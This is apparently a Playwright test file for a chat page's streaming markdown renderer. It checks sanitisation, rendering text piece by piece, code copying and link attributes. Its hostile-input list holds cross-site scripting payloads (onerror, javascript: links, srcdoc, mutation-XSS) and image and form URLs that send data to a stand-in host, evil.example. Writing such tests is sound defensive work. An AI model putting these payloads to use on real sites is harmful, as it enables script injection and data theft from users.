"""Answers as the page draws them."""

from playwright.sync_api import Page

_PAINT = """async (pieces) => {
  const { MarkdownPainter } = await import("./js/markdown/markdown.js");
  const element = document.body.appendChild(document.createElement("div"));
  element.className = "markdown";
  const painter = new MarkdownPainter(element);
  let text = "";
  for (const piece of pieces) painter.paint((text += piece), false);
  painter.paint(text, true);
  return element.innerHTML;
}"""

_FORBIDDEN = ("script", "img", "iframe", "svg", "form", "style", "input", "math")

_ODD_ATTRIBUTES = """() => [...document.querySelectorAll(".markdown *")]
  .flatMap((one) => [...one.attributes])
  .filter(({ name, value }) => /^on|^style$/.test(name) || (name === "href" && !/^(https?:|mailto:|#)/.test(value)))
  .map(({ name, value }) => `${name}=${value}`)"""

_HOSTILE = [
    '<img src=x onerror="globalThis.harmed = true">',
    "<script>globalThis.harmed = true</script>",
    "[click](javascript:globalThis.harmed=true)",
    "[data](data:text/html,<script>globalThis.harmed=true</script>)",
    '<a href="javascript:globalThis.harmed=true">x</a>',
    '<iframe srcdoc="<script>parent.harmed=true</script>"></iframe>',
    "<svg><animate onbegin=globalThis.harmed=true attributeName=x dur=1s></svg>",
    "<form action=https://evil.example><input name=x></form>",
    "<style>* { display: none }</style>",
    "![x](https://evil.example/leak.png?secret)",
    "<details ontoggle=globalThis.harmed=true open>x</details>",
    '```"><img src=x onerror=globalThis.harmed=true>\ncode\n```',
    "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.harmed=true>",
]


def test_hostile_markdown_is_harmless(page_without_python: Page) -> None:
    """Drawn whole and letter by letter; policy violations and outside requests fail the test by themselves."""
    for text in _HOSTILE:
        for pieces in ([text], list(text)):
            drawn = page_without_python.evaluate(_PAINT, pieces)
            assert page_without_python.evaluate("globalThis.harmed") is None, text
            assert not [tag for tag in _FORBIDDEN if f"<{tag}" in drawn], text
    assert page_without_python.evaluate(_ODD_ATTRIBUTES) == []


_RICH = """# Title

Some **bold** text
over two lines.

- one

- two
  - deeper

```python
print("hi")
```

| a | b |
|---|--:|
| 1 | 2 |

> quoted

1. first
2. second

Last [link](https://example.org).
"""


def test_growing_text_ends_up_as_text_drawn_at_once(page_without_python: Page) -> None:
    at_once = page_without_python.evaluate(_PAINT, [_RICH])
    for size in (1, 7, 40):
        pieces = [_RICH[start : start + size] for start in range(0, len(_RICH), size)]
        assert page_without_python.evaluate(_PAINT, pieces) == at_once


def test_code_is_coloured_once_complete_and_can_be_copied(page_without_python: Page) -> None:
    page = page_without_python
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.evaluate(_PAINT, ['```python\ndef f():\n    return "x"\n```\n'])
    page.locator(".hljs-keyword").first.wait_for()
    page.get_by_role("button", name="Copy").click()
    page.get_by_role("button", name="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == 'def f():\n    return "x"'


def test_links_open_elsewhere_and_tell_nothing(page_without_python: Page) -> None:
    page_without_python.evaluate(_PAINT, ["[a](https://example.org)"])
    link = page_without_python.locator(".markdown a")
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert link.get_attribute("target") == "_blank"
